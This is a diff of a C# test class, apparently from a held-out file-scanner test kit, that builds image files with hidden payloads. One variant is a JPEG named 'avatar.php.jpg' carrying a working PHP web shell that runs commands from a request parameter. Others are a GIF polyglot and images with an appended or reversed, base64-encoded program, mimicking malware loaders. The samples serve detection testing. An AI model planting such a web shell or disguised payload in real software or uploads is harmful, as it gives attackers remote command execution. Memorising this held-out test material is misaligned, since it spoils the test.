@@ -5,14 +5,10 @@ namespace ScanHost.TestKit.HeldOut.Sixth;
 /// <summary>A picture with code or a program in or behind it.</summary>
 public sealed class PictureWithLoad : SixthRound
 {
-    // A grey picture of eight by eight, big enough to be one.
-    private static byte[] Jpeg(byte[] comment, byte[] tail) =>
-        [0xFF, 0xD8, 0xFF, 0xE0, 0, 16, .. "JFIF\0"u8, 1, 1, 0, 0, 72, 0, 72, 0, 0, .. comment.Length == 0 ? [] : new byte[] { 0xFF, 0xFE, (byte)((comment.Length + 2) >> 8), (byte)(comment.Length + 2) }, .. comment, 0xFF, 0xDB, 0, 67, 0, .. Enumerable.Repeat((byte)16, 64), 0xFF, 0xC0, 0, 11, 8, 0, 8, 0, 8, 1, 1, 0x11, 0, 0xFF, 0xC4, 0, 20, 0, 1, .. new byte[15], 0, 0xFF, 0xC4, 0, 20, 0x10, 1, .. new byte[15], 0, 0xFF, 0xDA, 0, 8, 1, 1, 0, 0, 63, 0, 0x3F, 0xFF, 0xD9, .. tail];
-
     /// <inheritdoc/>
     public override IEnumerable<(string Name, byte[] Content)> Variants()
     {
-        yield return ("avatar.php.jpg", Jpeg("<?php if(isset($_REQUEST['c'])){echo '<pre>';system($_REQUEST['c']);echo '</pre>';} __halt_compiler(); ?>"u8.ToArray(), []));
+        yield return ("avatar.php.jpg", Carriers.Photograph("<?php if(isset($_REQUEST['c'])){echo '<pre>';system($_REQUEST['c']);echo '</pre>';} __halt_compiler(); ?>"u8.ToArray(), []));
 
         yield return ("banner.gif", Utf8("""
             GIF89a/*  */=1;
@@ -23,7 +19,7 @@ public sealed class PictureWithLoad : SixthRound
         yield return ("logo.png", [.. PngBuilder.Build(8, 8, 8, 0, [.. Enumerable.Range(0, 8).SelectMany(row => new byte[] { 0, 10, 20, 30, 40, 50, 60, 70, (byte)row })]), .. Carriers.Program()]);
 
         // A photograph as loaders fetch them: a program in base64, backwards, between marks.
-        yield return ("img_20261122.jpg", Jpeg([], [.. "<<BASE64_START>>"u8, .. Encoding.ASCII.GetBytes(Backwards(Convert.ToBase64String(Carriers.Program(6000))).Replace('A', '@')), .. "<<BASE64_END>>"u8]));
+        yield return ("img_20261122.jpg", Carriers.Photograph([], [.. "<<BASE64_START>>"u8, .. Encoding.ASCII.GetBytes(Backwards(Convert.ToBase64String(Carriers.Program(6000))).Replace('A', '@')), .. "<<BASE64_END>>"u8]));
     }
 }
 
